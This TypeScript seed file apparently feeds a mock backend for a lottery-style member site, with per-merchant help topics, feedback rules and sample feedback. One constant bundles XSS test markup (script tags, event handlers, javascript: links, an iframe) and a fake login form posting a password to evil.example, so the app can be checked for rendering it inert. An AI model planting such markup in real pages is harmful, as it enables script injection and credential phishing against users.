// Customer service: deterministic help-centre topics and feedback per merchant, and the
// feedback rules each merchant answers. demo has topics (one of them hostile HTML, which the app
// must render inert) and feedback history for demo01; atlas has a short topic list and its own
// word bounds; mono has no help topics (the member centre hides HELPCENTER) and FEEDBACK3 off.
import type { FeedbackRules } from '../../src/api/contract.generated';
import type { Merchant } from '../merchants';
import type { Db } from './database';

const SEED_EPOCH = Date.UTC(2024, 0, 15, 3, 0, 0);
const DAY = 86_400_000;

const RULES: Record<string, FeedbackRules> = {
  demo: { minWords: 5, maxWords: 60, types: ['SUGGESTION', 'BUG', 'PAYMENT', 'OTHER'] },
  atlas: { minWords: 10, maxWords: 200, types: ['SUGGESTION', 'OTHER'] },
};
const DEFAULT_RULES: FeedbackRules = { minWords: 5, maxWords: 200, types: ['SUGGESTION', 'BUG', 'OTHER'] };

export function feedbackRules(merchantCode: string): FeedbackRules {
  return RULES[merchantCode] ?? DEFAULT_RULES;
}

/** A topic whose HTML tries every trick: scripts, handlers, javascript: links, frames, forms, styles. */
export const HOSTILE_TOPIC_HTML = [
  '<p>Keep your account safe.</p>',
  '<script>window.__helpPwned = true;</script>',
  '<img src="/platform-assets/banners/1.svg" alt="" onerror="window.__helpPwned = true" onload="window.__helpPwned = true">',
  '<a href="javascript:window.__helpPwned = true" data-testid="hostile-link">Claim your bonus</a>',
  '<iframe src="javascript:window.__helpPwned = true"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"><button>Log in again</button></form>',
  '<p style="position:fixed;inset:0;background:red" onclick="window.__helpPwned = true">Never share your password.</p>',
].join('');

function topicsFor(merchant: Merchant): [string, string][] {
  if (merchant.code === 'mono') return [];
  const brand = merchant.name;
  const common: [string, string][] = [
    ['How do I deposit?', `<p>Open <strong>Deposit</strong> from the member centre, pick a method and follow the steps. ${brand} credits most deposits within minutes.</p><ul><li>Keep the transfer slip.</li><li>Contact customer service if the money has not arrived after 30 minutes.</li></ul>`],
    ['How do I withdraw?', '<p>Bind a bank card in the security centre first, then open <strong>Withdraw</strong>. <a href="/m/securityCenter">Go to the security centre</a>.</p>'],
  ];
  if (merchant.code === 'atlas') return common;
  return [...common, ['Account security', HOSTILE_TOPIC_HTML], ['Responsible gaming', `<p>${brand} is for players aged ${merchant.minimumAge} and over. Set limits and take breaks.</p>`]];
}

export function seedService(db: Db, merchant: Merchant): void {
  const code = merchant.code;
  db.prepare('DELETE FROM service_help_topics WHERE merchant_code = ?').run(code);
  db.prepare('DELETE FROM service_feedback WHERE merchant_code = ?').run(code);
  db.prepare('DELETE FROM service_faults WHERE merchant_code = ?').run(code);
  const insertTopic = db.prepare('INSERT INTO service_help_topics (merchant_code, title, content, sort) VALUES (?, ?, ?, ?)');
  topicsFor(merchant).forEach(([title, content], i) => insertTopic.run(code, title, content, i));
  if (merchant.flags.FEEDBACK3 !== true) return;
  const insertFeedback = db.prepare('INSERT INTO service_feedback (merchant_code, username, type, content, created_at, status, reply) VALUES (?, ?, ?, ?, ?, ?, ?)');
  insertFeedback.run(code, 'demo01', 'SUGGESTION', 'Please add more lottery games with short draws.', SEED_EPOCH + 3 * DAY, 'REPLIED', 'Thank you, new lotteries are coming next month.');
  insertFeedback.run(code, 'demo01', 'BUG', 'The balance did not refresh after my last deposit.', SEED_EPOCH + 5 * DAY, 'RECEIVED', null);
}
